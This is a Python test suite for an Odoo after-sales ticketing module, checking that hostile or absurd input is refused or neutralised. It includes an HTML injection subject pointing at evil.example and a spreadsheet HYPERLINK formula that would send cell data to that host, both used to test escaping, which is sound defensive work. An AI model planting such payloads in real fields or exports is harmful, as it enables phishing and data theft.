import base64
import io
import time

import openpyxl
import psycopg2

from odoo import Command, fields
from odoo.exceptions import AccessError, UserError, ValidationError
from odoo.tests import Form, new_test_user, tagged
from odoo.tools import mute_logger

from .common import ServiceJobCase

HOSTILE_SUBJECT = (
    'Broken <a href="http://evil.example/login">click here</a>'
    '<img src="http://evil.example/pixel.png">'
)


@tagged("post_install", "-at_install")
class TestBadInput(ServiceJobCase):
    """Hand-typed, hostile or absurd input gets a clear message and changes nothing."""

    track_changes = True  # the acknowledgement and the activities are mail features

    def test_workflow_fields_are_not_writable_by_hand(self):
        ticket = self._ticket()
        as_tech = ticket.with_user(self.technician)
        for values in (
            {"guarantee_state": "done"},
            {"guarantee_resolution": "refund"},
            {"guarantee_approved_by_id": self.manager.id},
            {"response_date": fields.Datetime.now()},
            {"sla_failure_notified": True},
            {"number": "AS/2026/00001"},
        ):
            with self.assertRaisesRegex(AccessError, "kept by its workflow", msg=str(values)):
                as_tech.write(values)
        with self.assertRaisesRegex(AccessError, "kept by its workflow"):
            ticket.with_user(self.manager).write({"guarantee_state": "done"})
        with self.assertRaisesRegex(AccessError, "kept by its workflow"):
            self.env["after_sales.ticket"].with_user(self.technician).create(
                {"name": "Forged", "team_id": self.team.id, "guarantee_state": "done"}
            )
        self.assertFalse(ticket.guarantee_state)
        self.assertFalse(ticket.response_date)
        self.assertEqual(ticket.category, "A")

    def test_ticket_numbers_are_unique(self):
        first, second = self._ticket(), self._ticket(prefix="DUP")
        self.assertNotEqual(first.number, second.number)
        with (
            self.assertRaises(psycopg2.errors.UniqueViolation),
            mute_logger("odoo.sql_db"),
            self.env.cr.savepoint(),
        ):
            second._write_flow({"number": first.number})
            second.flush_recordset()

    def test_free_category_needs_coverage(self):
        ticket = self._ticket()
        with (
            self.assertRaisesRegex(ValidationError, "not covered by a warranty card"),
            self.env.cr.savepoint(),
        ):
            ticket.with_user(self.technician).write({"category": "C"})
        self.assertEqual(ticket.category, "A")
        covered = self._ticket(covered=True, prefix="COV")
        self.assertEqual(covered.category, "C")
        covered.with_user(self.technician).write({"category": "A"})
        covered.with_user(self.technician).write({"category": "C"})
        self.assertEqual(covered.category, "C", "a covered ticket may go back to free")
        ticket.with_user(self.manager).write({"category": "C"})
        self.assertEqual(ticket.category, "C", "a manager decides goodwill")

    def test_workbook_writes_text_as_text(self):
        repairs = self._finished_paid_repairs(1)
        self.customer.name = '=HYPERLINK("http://evil.example/?x="&A2,"Click")'
        repairs.with_user(self.accountant).action_after_sales_invoice()
        repairs.sale_order_id.invoice_ids.action_post()
        today = fields.Date.context_today(self.env.user)
        wizard = (
            self.env["after_sales.invoice.report"]
            .with_user(self.accountant)
            .create({"date_from": today, "date_to": today, "team_id": self.team.id})
        )
        wizard.action_export()
        sheet = openpyxl.load_workbook(io.BytesIO(base64.b64decode(wizard.report_file))).active
        customer = sheet.cell(row=2, column=4)
        self.assertEqual(customer.value, self.customer.name)
        self.assertEqual(customer.data_type, "s", "a string, not a formula")

    def test_activity_notes_escape_what_customers_typed(self):
        ticket = self._create_ticket(name=HOSTILE_SUBJECT, date_open=self.dt("2026-01-05 09:00"))
        self.env["after_sales.ticket"]._cron_sla_watchdog()
        activity = ticket.activity_ids
        self.assertEqual(len(activity), 1)
        self.assertEqual(activity.activity_type_id.name, "SLA Failed")
        self.assertIn(HOSTILE_SUBJECT, activity.summary, "plain text, shown as typed")
        self.assertFalse(activity.note, "no HTML made of what the customer typed")
        digest = self.env["mail.message"].search(
            [
                ("subject", "like", "SLA failed on"),
                ("partner_ids", "in", self.manager.partner_id.ids),
            ]
        )
        self.assertTrue(digest)
        self.assertNotIn('<a href="http://evil', str(digest.body))
        self.assertNotIn("<img", str(digest.body))

    def test_an_archived_leader_is_a_member_once(self):
        leaver = new_test_user(
            self.env,
            login="as_leaver",
            groups="base.group_user,after_sales.group_after_sales_manager",
        )
        leaver.active = False
        team = self.env["after_sales.team"].create({"name": "Night shift", "leader_id": leaver.id})
        members = team.with_context(active_test=False).member_ids
        self.assertEqual(members, leaver, "linked once, no endless re-linking")

    def test_absurd_settings_are_refused_where_typed(self):
        empty = self.env["resource.calendar"].create(
            {"name": "No hours", "attendance_ids": [Command.clear()]}
        )
        with self.assertRaisesRegex(ValidationError, "have no working time"):
            self.team.resource_calendar_id = empty
        with self.assertRaisesRegex(ValidationError, "cannot exceed 8784 hours"):
            self.env["after_sales.sla.policy"].create({"name": "Forever", "response_hours": 1e9})
        with self.assertRaisesRegex(ValidationError, "cannot last more than 600 months"):
            self.env["after_sales.warranty.policy"].create(
                {"name": "Eternal", "warranty_months": 1_000_000}
            )

    def test_a_calendar_emptied_later_does_not_block_tickets(self):
        self.calendar.attendance_ids.unlink()
        started = time.monotonic()
        ticket = self._create_ticket(date_open=self.dt("2026-01-05 09:00"))
        self.assertLess(time.monotonic() - started, 5.0, "no endless search for working time")
        policy = ticket.sla_policy_id
        self.assertTrue(policy.response_hours)
        self.assertEqual(
            (ticket.response_deadline - ticket.date_open).total_seconds() / 3600,
            policy.response_hours,
            "counted round the clock",
        )

    def test_email_from_a_known_customer_takes_the_partner_data(self):
        alias_domain = self.env["mail.alias.domain"].create({"name": "service.test"})
        self.company.alias_domain_id = alias_domain
        self.team.alias_name = "repairs"
        message = (
            "From: Jane Customer <jane@customer.test>\r\n"
            "To: repairs@service.test\r\n"
            "Subject: Fridge is warm\r\n"
            "Message-ID: <known-customer@customer.test>\r\n"
            "Content-Type: text/plain\r\n\r\nThe fridge does not cool any more.\r\n"
        )
        thread_id = self.env["mail.thread"].message_process("after_sales.ticket", message)
        ticket = self.env["after_sales.ticket"].browse(thread_id)
        self.assertEqual(ticket.partner_id, self.customer)
        self.assertEqual(ticket.partner_email, "jane@customer.test")
        self.assertEqual(ticket.partner_name, "Jane Customer")
        self.assertEqual(ticket.partner_phone, "+34 600 000 001")
        self.assertIn("Calle Mayor 1", ticket.partner_address)
        reply_to = ticket._notify_get_reply_to()[ticket.id]
        self.assertIn("repairs@service.test", reply_to, "replies go to the team's alias")

    def test_raw_errors_become_sentences(self):
        lots = self._lots(self.serial_product, 1, prefix="CO")
        other_card = (
            self.env["after_sales.warranty.card"]
            .with_company(self.other_company)
            .create(
                {
                    "company_id": self.other_company.id,
                    "partner_id": self.customer.id,
                    "product_id": self.serial_product.id,
                    "lot_id": lots.id,
                    "policy_id": self.standard_policy.id,
                    "state": "active",
                }
            )
        )
        with self.assertRaisesRegex(ValidationError, "in another company") as error:
            self.env["after_sales.warranty.card"].with_user(self.manager).create(
                {
                    "partner_id": self.customer.id,
                    "product_id": self.serial_product.id,
                    "lot_id": lots.id,
                    "policy_id": self.standard_policy.id,
                }
            )
        self.assertNotIn(other_card.number, str(error.exception), "not named to outsiders")

        self._manual_card(product_id=self.serial_product.id).action_activate()
        check = self.env["after_sales.warranty.check"].with_user(self.technician)
        self.assertFalse(check.create({"serial": "%"}).card_id, "no wildcard")
        self.assertFalse(check.create({"serial": "CO-0000_"}).card_id)

        ticket = self._ticket(prefix="APR")
        repair = self._repair(ticket, parts=[(self.filter, 1, False)])
        self._send_estimate(repair)
        wizard = Form.from_action(
            repair.with_user(self.advisor).env,
            repair.with_user(self.advisor).action_record_estimate_approval(),
        )
        wizard.approved_by = "   "
        with self.assertRaisesRegex(UserError, "Write who approved"):
            wizard.save().action_confirm()
        self.assertFalse(repair.estimate_approved_on)

        with self.assertRaisesRegex(ValidationError, "is not a service"):
            self.env["after_sales.labour.line"].with_user(self.technician).create(
                {"ticket_id": ticket.id, "hours": 1.0, "product_id": self.filter.id}
            )

    def _mails_of(self, record):
        self.env.flush_all()
        self.env.cr.precommit.run()  # tracking, and so the stage emails, run at commit
        self.env["after_sales.ticket"]._cron_send_acknowledgements()  # triggered on creation
        return self.env["mail.mail"].search(
            [("model", "=", record._name), ("res_id", "=", record.id)]
        )

    def test_a_batch_of_cards_with_a_serial_of_another_company_is_refused(self):
        """Cards are checked a company at a time: one wrong serial in a batch still
        names itself, and no card of the batch is created."""
        ours = self._lots(self.serial_product, 2, prefix="BC")
        theirs = self.env["stock.lot"].create(
            {
                "name": "BC-THEIRS",
                "product_id": self.serial_product.id,
                "company_id": self.other_company.id,
            }
        )
        cards = self.env["after_sales.warranty.card"].with_user(self.manager)
        values = [
            {
                "partner_id": self.customer.id,
                "product_id": self.serial_product.id,
                "lot_id": lot.id,
                "policy_id": self.standard_policy.id,
            }
            for lot in ours | theirs
        ]
        with self.assertRaises(UserError) as error:
            cards.create(values)
        self.assertIn("BC-THEIRS", str(error.exception))
        self.assertFalse(cards.search([("lot_id", "in", (ours | theirs).ids)]))

        issued = cards.create(values[:2])
        self.assertEqual(issued.lot_id, ours)
        self.assertEqual(issued.product_tmpl_id, self.serial_product.product_tmpl_id)
        self.assertEqual(set(issued.mapped("lot_tracking")), {"serial"})
        self.assertFalse(issued.sale_order_id)

    def test_acknowledgement_is_queued_and_optional(self):
        ticket = self._create_ticket(name="Queued acknowledgement")
        mails = self._mails_of(ticket)
        self.assertEqual(len(mails), 1, "the customer's acknowledgement")
        self.assertEqual(mails.state, "outgoing", "left to the mail queue, not sent in the request")
        self.assertEqual(mails.recipient_ids, self.customer)

        self.company.email = False
        clerk = new_test_user(
            self.env,
            login="as_no_email",
            groups="base.group_user,after_sales.group_after_sales_user",
            email=False,
        )
        self.team.member_ids |= clerk
        silent = (
            self.env["after_sales.ticket"]
            .with_user(clerk)
            .create(
                {
                    "name": "Logged by a clerk",
                    "team_id": self.team.id,
                    "partner_id": self.customer.id,
                }
            )
        )
        self.assertTrue(silent.number.startswith("AS/"))
        nobody = self.env["res.partner"].create({"name": "No Email"})
        mute = self._create_ticket(name="No address", partner_id=nobody.id)
        for record in (silent, mute):
            self.assertFalse(self._mails_of(record))
